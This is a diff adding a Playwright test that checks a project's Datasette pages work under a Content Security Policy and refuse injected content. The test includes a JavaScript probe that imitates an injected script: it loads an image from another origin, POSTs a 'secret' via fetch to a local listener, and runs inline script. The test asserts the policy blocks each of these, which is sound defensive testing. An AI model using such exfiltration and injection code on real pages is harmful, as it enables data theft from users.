@@ -10,6 +10,7 @@ from __future__ import annotations
 
 import os
 import shutil
+import socket
 import subprocess
 import sys
 import time
@@ -182,3 +183,91 @@ def _in_viewport(page: Any, selector: str) -> bool:
             selector,
         )
     )
+
+
+# What a script a transcript string slipped onto a page would try: load from another
+# origin, send to one, run inline. The policy must refuse each (a violation event each).
+PROBE = """async (elsewhere) => {
+    const seen = [];
+    document.addEventListener("securitypolicyviolation", e => seen.push(e.effectiveDirective));
+    const img = document.createElement("img");
+    img.src = elsewhere + "pixel.png";
+    document.body.append(img);
+    // (a listener that never answers: the timeout ends the wait if the fetch got out)
+    const signal = AbortSignal.timeout(2000);
+    await fetch(elsewhere + "send", {method: "POST", body: "secret", signal}).catch(() => null);
+    const script = document.createElement("script");
+    script.textContent = "window.__pwned = 1";
+    document.body.append(script);
+    await new Promise(r => setTimeout(r, 200));
+    return {seen: [...new Set(seen)].sort(), pwned: window.__pwned === 1};
+}"""
+
+
+def test_datasette_pages_run_their_scripts_under_the_content_security_policy(
+    served: tuple[str, WebTree], tmp_path: Path
+) -> None:
+    """Datasette's own pages carry a CSP that allows its scripts (by hash) and nothing
+    from elsewhere: the table's column menus, the nav menu that closes on a click
+    outside, and the SQL editor still work, with no violation reported."""
+    sync_playwright = _browser_or_skip()
+    url, tree = served
+    problems: list[str] = []
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(
+            executable_path=CHROMIUM, headless=True, args=["--no-sandbox"]
+        )
+        try:
+            page = browser.new_context(viewport={"width": 1280, "height": 860}).new_page()
+            page.set_default_timeout(15_000)
+            page.on("console", lambda m: problems.append(m.text) if m.type == "error" else None)
+            page.on("pageerror", lambda e: problems.append(str(e)))
+            page.on(
+                "request",
+                lambda r: None if r.url.startswith(url) else problems.append(f"left: {r.url}"),
+            )
+
+            # A table: table.js adds a menu to each column; the inline script before it
+            # (DATASETTE_ALLOW_FACET) decides whether the menu offers a facet.
+            page.goto(f"{url}sessiondex/sessions")
+            assert tree.evil_id in page.locator("table.rows-and-columns").inner_text()
+            page.locator("th.col-root svg.dropdown-menu-icon").click()
+            menu = page.locator(".dropdown-menu")
+            assert menu.is_visible() and menu.locator(".dropdown-facet").is_visible()
+            # The nav menu: an inline script closes it on a click outside.
+            page.locator("details.nav-menu summary").click()
+            assert page.locator("details.nav-menu[open]").count() == 1
+            page.locator("h1").click()
+            assert page.locator("details.nav-menu[open]").count() == 0
+
+            # A row: the same page frame, its inline scripts included.
+            page.locator("table.rows-and-columns td.type-pk a").first.click()
+            page.wait_for_url(f"{url}sessiondex/sessions/*")
+            assert page.locator("table.rows-and-columns").count() == 1
+
+            # The SQL page with a query: CodeMirror replaces the textarea, and the
+            # format button (shown by the inline script) formats it.
+            page.goto(f"{url}sessiondex?sql=select+session_id,+project_key+from+sessions")
+            assert page.locator(".CodeMirror").is_visible()
+            assert page.locator("table.rows-and-columns tbody tr").count() == 4
+            editor = page.locator(".CodeMirror")
+            assert "select session_id, project_key from sessions" in editor.inner_text()
+            page.locator("button#sql-format").click()
+            assert "\n  session_id,\n" in editor.inner_text()  # one column a line
+            assert problems == []  # no violation, no script error, nothing loaded elsewhere
+
+            # Another origin (another port) that would see anything sent to it.
+            with socket.socket() as elsewhere:
+                elsewhere.bind(("127.0.0.1", 0))
+                elsewhere.listen(8)
+                elsewhere.setblocking(False)
+                port = elsewhere.getsockname()[1]
+                outcome = page.evaluate(PROBE, f"http://127.0.0.1:{port}/")
+                with pytest.raises(BlockingIOError):
+                    elsewhere.accept()  # no connection came
+            assert outcome == {
+                "seen": ["connect-src", "img-src", "script-src-elem"],
+                "pwned": False,
+            }
+        finally:
+            browser.close()
